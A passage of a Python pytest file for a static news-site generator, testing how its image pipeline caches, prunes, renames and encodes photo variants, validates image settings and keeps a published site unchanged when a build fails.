    def published() -> set[str]:
        return {path.name for path in (site / "public/img").iterdir()}

    def cached() -> set[str]:
        return {path.name for path in cache.iterdir()}

    first = build_site(site)
    assert first.images_made == 26 and first.images_pruned == 0
    age_cache()
    photo = site / "content/images/ketua.jpg"
    photo.write_bytes(picture(900, 600, quality=50))  # its six files of before: no page's now
    replaced = build_site(site)
    assert (replaced.images_made, replaced.images_pruned) == (6, 6)
    assert cached() == published() and len(cached()) == 26
    photo.write_bytes(picture(900, 600, quality=40))  # the files just made: too young to go
    again = build_site(site)
    assert (again.images_made, again.images_pruned) == (6, 0)
    assert cached() > published() and len(cached() - published()) == 6
    age_cache()
    story = site / A
    story.write_text(story.read_text(encoding="utf-8").replace(body, "Isi."), encoding="utf-8")
    without = build_site(site)  # nothing made, the photo's files taken out of public/
    assert (without.images_made, without.images_pruned) == (0, 12)
    assert cached() == published() and len(cached()) == 20
    age_cache()  # files in use stay, however old
    (site / "content/images/banjir.jpg").write_bytes(picture(1200, 800))
    (site / B).write_text(
        article(title="Banjir Susulan", image="{src: /images/banjir.jpg, alt: Banjir}"),
        encoding="utf-8",
    )
    added = build_site(site)
    assert added.images_made > 0 and added.images_pruned == 0
    assert cached() == published()


def test_a_changed_encoder_setting_renames_the_photos_of_every_page(
    make_site: SiteMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A newsgen whose encoder settings differ (its own files differ, so the build stamp
    does not answer) names and makes the photos anew, in the records read back too."""
    site = make_site(
        {
            A: article(image="{src: /images/rakor.jpg, alt: Rapat}"),
            **{"content/images/rakor.jpg": picture(1600, 1200)},
        },
        WEBP_ONLY,
    )
    build_site(site)

    def webp_names() -> set[str]:
        return {p.name for p in (site / "public/img").iterdir() if p.suffix == ".webp"}

    before = webp_names()
    monkeypatch.setattr(images, "WEBP_METHOD", images.WEBP_METHOD + 1)
    stamp.forget(BuildOptions(site_dir=site, output_dir=site / "public", now=NOW))
    rebuilt = build_site(site)
    after = webp_names()
    assert before and after and not before & after
    assert rebuilt.images_made == len(after)
    shown = {
        url.rsplit("/", 1)[-1]
        for page in (site / "public").rglob("*.html")
        for url in re.findall(r"/img/[^\s\"]+\.webp", page.read_text(encoding="utf-8"))
    }
    assert shown == after
    clean = site.parent / "clean"
    shutil.copytree(site, clean, ignore=shutil.ignore_patterns("public", ".newsgen-cache"))
    build_site(clean)
    assert {p.name for p in (clean / "public/img").iterdir() if p.suffix == ".webp"} == after


def test_output_is_the_same_whatever_the_number_of_workers(tmp_path: Path) -> None:
    (tmp_path / "content").mkdir()
    variants = []
    for name, data in (
        ("a.jpg", with_gps(1300, 900, orientation=8)),
        ("b.png", picture(700, 500, "PNG")),
    ):
        (tmp_path / "content" / name).write_bytes(data)
        photo = Photo(name, images.probe(f"content/{name}", data), "", "Foto")
        variants += images.planned(photo, ImageSettings(), lead=True).variants
    one = imageproc.process(variants, tmp_path, tmp_path / "one", workers=1)
    two = imageproc.process(variants, tmp_path, tmp_path / "two", workers=2)
    assert one == two and one.made == len(variants) and not one.failures
    for variant in variants:
        name = imageproc.cache_path(tmp_path, variant).name
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()
    assert imageproc.process(variants, tmp_path, tmp_path / "one", workers=2).made == 0


def test_each_picture_is_resized_once_and_each_recipe_encoded_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 3:2 lead photo's 480-pixel story width and its 480x320 thumbnail are one recipe;
    every format of a size is encoded from one resize, also when split over workers."""
    (tmp_path / "content").mkdir()
    variants: list[Variant] = []
    for name in ("a.jpg", "b.jpg"):
        data = picture(1200, 800)
        (tmp_path / "content" / name).write_bytes(data)
        photo = Photo(name, images.probe(f"content/{name}", data), "", "Foto")
        variants += images.planned(photo, ImageSettings(), lead=True).variants
    recipes = {(v.source, v.format, v.box, v.width, v.height, v.quality) for v in variants}
    pictures = {(v.source, v.box, v.width, v.height) for v in variants}
    assert len(recipes) < len(variants)  # the shared recipe is there to be shared
    encoded: list[tuple[str, tuple[int, int]]] = []
    real_encode = imageproc.encode

    def counting_encode(img: Image.Image, variant: Variant, icc: bytes) -> bytes:
        encoded.append((variant.format, img.size))
        return real_encode(img, variant, icc)

    monkeypatch.setattr(imageproc, "encode", counting_encode)
    report = imageproc.process(variants, tmp_path, tmp_path / "cache", workers=1)
    assert report.made == len(variants) and len(encoded) == len(recipes)
    # split over workers, each task holds one picture with all its formats
    tasks = imageproc._tasks(variants, tmp_path, tmp_path / "cache", workers=2)
    held = [{(v.source, v.box, v.width, v.height) for v in task.variants} for task in tasks]
    assert all(len(one) == 1 for one in held)
    assert sorted(one.pop() for one in held) == sorted(pictures)  # each in a single task


def test_a_photo_gone_before_processing_is_reported(tmp_path: Path) -> None:
    data = picture(600, 400)
    photo = images.planned(
        Photo("x.jpg", images.probe("content/x.jpg", data), "", "Foto"), ImageSettings()
    )
    report = imageproc.process(photo.variants, tmp_path, tmp_path / "cache", workers=1)
    assert report.made == 0 and len(report.failures) == 1
    source, problem = report.failures[0]
    assert source == "content/x.jpg" and problem.startswith("could not be processed (")


def test_lead_photo_planned_with_focus_from_front_matter(make_site: SiteMaker) -> None:
    site = make_site(
        {
            A: article(image="{src: /images/rakor.jpg, alt: Rapat, focus: [0.9, 0.5]}"),
            "content/images/rakor.jpg": picture(2000, 1000),
        },
        WEBP_ONLY,
    )
    options = BuildOptions(site_dir=site, output_dir=site / "public", now=NOW)
    (story,) = load_site(options).library.published
    assert story.image is not None
    boxes = {v.role: v.box for v in story.image.variants}
    assert boxes["1x1"] == (1000, 0, 2000, 1000)
    assert images.social_urls(story.image).open_graph.width == 1200


@pytest.mark.parametrize(
    ("section", "message"),
    [
        ("  widht: [480]\n", "site.yaml:3: images.widht: unknown key (did you mean 'widths'?)"),
        (
            "  widths: []\n",
            "site.yaml:3: images.widths: expected a list of widths in pixels such as [480, 800, 1200, 1600] (got [])",
        ),
        (
            "  quality: 101\n",
            "site.yaml:3: images.quality: expected a whole number from 1 to 100 (got 101)",
        ),
        (
            "  formats: [jxl]\n",
            "site.yaml:3: images.formats: expected a list of avif, webp, or [] (got ['jxl'])",
        ),
        (
            "  thumb_widths: [0]\n",
            "site.yaml:3: images.thumb_widths: expected a list of widths in pixels such as [240, 480, 720] (got [0])",
        ),
    ],
)
def test_images_settings_are_checked(section: str, message: str) -> None:
    with pytest.raises(BuildFailed) as caught:
        parse_config("title: T\nbase_url: https://t.example\nimages:\n" + section)
    assert [e.message for e in caught.value.errors] == [message]


def test_images_settings_defaults_and_values() -> None:
    assert parse_config("title: T\nbase_url: https://t.example\n").images == ImageSettings()
    config = parse_config(
        "title: T\nbase_url: https://t.example\nimages:\n  widths: [800, 400, 800]\n  formats: []\n"
    )
    assert (config.images.widths, config.images.formats) == ((400, 800), ())


def test_photos_made_beside_the_planning_give_the_same_site_and_report_failures(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    from newsgen.build import build
    from tests.conftest import write_site

    files: dict[str, str | bytes] = {
        A: article(
            image="{src: /images/rakor.jpg, alt: Peserta rapat}",
            body="Paragraf pertama.\n\n![Dua warna](/images/putar.jpg)",
        ),
        "content/images/rakor.jpg": with_gps(1600, 1200),
        "content/images/putar.jpg": halves(900, 600, orientation=6),
    }
    marks = tmp_path / "made-in"
    marks.mkdir()
    real_process = imageproc.process

    def process(*args: object, **kwargs: object) -> imageproc.ProcessReport:
        (marks / str(os.getpid())).touch()  # a forked process shares no memory with this one
        return real_process(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(imageproc, "process", process)
    reports = {}
    for workers in (1, 2):
        site = write_site(tmp_path / f"site-{workers}", files, WEBP_ONLY)
        options = BuildOptions(site_dir=site, output_dir=site / "public", now=NOW, workers=workers)
        reports[workers] = build(options)
    assert {mark.name for mark in marks.iterdir()} - {str(os.getpid())}  # made beside
    assert reports[1].images_made == reports[2].images_made == 24
    one, two = tmp_path / "site-1" / "public", tmp_path / "site-2" / "public"
    assert {p.relative_to(one): p.read_bytes() for p in one.rglob("*") if p.is_file()} == {
        p.relative_to(two): p.read_bytes() for p in two.rglob("*") if p.is_file()
    }

    def failing(*args: object, **kwargs: object) -> imageproc.ProcessReport:
        return imageproc.ProcessReport(0, 0, (("content/images/rakor.jpg", "could not be read"),))

    monkeypatch.setattr(imageproc, "process", failing)
    site = write_site(tmp_path / "site-3", files, WEBP_ONLY)
    with pytest.raises(BuildFailed) as caught:
        build(BuildOptions(site_dir=site, output_dir=site / "public", now=NOW, workers=2))
    assert "content/images/rakor.jpg: photo: could not be read" in str(caught.value)
    assert not (site / "public").exists()

    # Over a published site: nothing of the failed build is published.
    monkeypatch.setattr(imageproc, "process", real_process)
    site = write_site(tmp_path / "site-4", files, WEBP_ONLY)
    options = BuildOptions(site_dir=site, output_dir=site / "public", now=NOW, workers=2)
    build(options)
    published = {p: p.read_bytes() for p in (site / "public").rglob("*") if p.is_file()}
    monkeypatch.setattr(imageproc, "process", failing)
    shutil.rmtree(options.image_cache)
    (site / A).write_text((site / A).read_text() + "\nParagraf baru.\n")
    with pytest.raises(BuildFailed):
        build(options)
    assert {p: p.read_bytes() for p in (site / "public").rglob("*") if p.is_file()} == published
